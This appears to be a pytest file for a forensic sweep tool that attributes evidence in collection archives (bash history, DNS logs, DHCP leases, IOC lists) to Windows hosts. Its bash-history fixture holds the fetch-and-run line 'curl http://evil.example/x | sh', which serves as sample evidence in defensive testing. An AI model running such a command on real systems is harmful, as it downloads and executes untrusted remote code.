"""Beside the only host in an archive: what the machine wrote of itself accuses it, and clears nothing."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from tests.builders import domain_pack, t
from tests.collection_kit import archive, kape, velociraptor
from tests.evidence.windows.hive_kit import hive, number, text

from nachsorge.assets.inventory import Inventory
from nachsorge.model.words import Weight
from nachsorge.sweep import Options, sweep
from nachsorge.sweep.indexing import IndexOptions, index
from nachsorge.sweep.recall import recall

if TYPE_CHECKING:
    from pathlib import Path

    from nachsorge.model.assessment import Assessment

WHEN = "2023-04-01T06:00:00Z"
HISTORY = b"#1680000000\ncurl http://evil.example/x | sh\n#1680000060\nls -la /tmp\n#1680000061\ncd /tmp\n"
LEASES = b"2023-03-23T20:00:00+00:00 gw dnsmasq-dhcp[7]: DHCPACK(eth0) 192.0.2.17 02:00:5e:10:00:01 {}\n"
QUERIES = (
    b"#separator \\x09\n#path\tdns\n#fields\tts\tuid\tid.orig_h\tid.resp_h\tquery\n"
    b"1679610000.000000\tC1\t192.0.2.17\t192.0.2.53\tevil.example\n"
)


def host(name: str) -> list[tuple[str, bytes, str]]:
    tree = {"Control": {"ComputerName": {"ComputerName": {"ComputerName": text(name)}}}}
    body = hive({"Select": {"Current": number(1)}, "ControlSet001": tree})
    return [("C:\\Windows\\System32\\config\\SYSTEM", body, WHEN), ("C:\\Users\\anna\\note.txt", b"a note", WHEN)]


def look(folder: Path, members: list[tuple[str, bytes, int | None]]) -> Assessment:
    (folder / "x.zip").write_bytes(archive(members))
    options = Options(jobs=1, now=t("2023-06-01"))
    return sweep([domain_pack(window=None, weight=Weight.HINT)], [str(folder / "x.zip")], Inventory(), options)


def test_what_is_met_in_a_machines_own_file_is_the_only_hosts_and_covers_nothing(tmp_path: Path) -> None:
    found = look(tmp_path, [*kape(host("PC17")), ("beside/.bash_history", HISTORY, None)])
    assert {s.asset for s in found.sightings} == {"PC17"}
    (one,) = [s for s in found.sources if s.reading.path.endswith(".bash_history")]
    assert "PC17 is the only host in the archive" in one.reading.note
    assert (one.reading.asset, one.assets) == (None, ())
    assert not [c for c in found.coverage if c.asset == "PC17" and c.telemetry.value == "program_execution"]


def test_of_two_hosts_neither_is_accused(tmp_path: Path) -> None:
    pairs = [velociraptor(host(name), base=f"{name}/") for name in ("PC17", "PC18")]
    found = look(tmp_path, [*pairs[0], *pairs[1], ("beside/.bash_history", HISTORY, None)])
    assert {"PC17", "PC18"} <= {row.asset.id for row in found.assets}
    assert found.sightings and {s.asset for s in found.sightings}.isdisjoint({"PC17", "PC18"})


@pytest.mark.parametrize(
    ("name", "body"),
    [
        ("iocs.txt", b"look for evil.example\n"),
        ("resolver/dns.log", QUERIES),
        ("software.csv", b"a,b\nx,evil.example\n"),
    ],
)
def test_notes_sensors_and_lists_beside_it_accuse_nobody(tmp_path: Path, name: str, body: bytes) -> None:
    found = look(tmp_path, [*kape(host("PC17")), (name, body, None)])
    assert found.sightings and "PC17" not in {s.asset for s in found.sightings}


def test_leases_beside_it_say_whose_address_it_was(tmp_path: Path) -> None:
    logs = [("net/dns.log", QUERIES, None), ("net/leases.log", LEASES.replace(b"{}", b"pc17"), None)]
    found = look(tmp_path, [*kape(host("PC17")), *logs])
    assert {s.asset for s in found.sightings} == {"PC17"}
    assert [c.intervals for c in found.coverage if c.asset == "PC17" and c.telemetry.value == "dns_query"]


def test_an_index_says_the_same(tmp_path: Path) -> None:
    (tmp_path / "x.zip").write_bytes(archive([*kape(host("PC17")), ("beside/.bash_history", HISTORY, None)]))
    added = index([str(tmp_path / "x.zip")], tmp_path / "index", IndexOptions(jobs=1, now=t("2023-06-01")))
    (one,) = [reading for reading in added.readings if reading.path.endswith(".bash_history")]
    assert "PC17 is the only host in the archive" in one.note
    pack = domain_pack(window=None, weight=Weight.HINT)
    found = recall([pack], tmp_path / "index", Inventory(), Options(jobs=1, now=t("2023-06-01")))
    assert {sighting.asset for sighting in found.sightings} == {"PC17"}
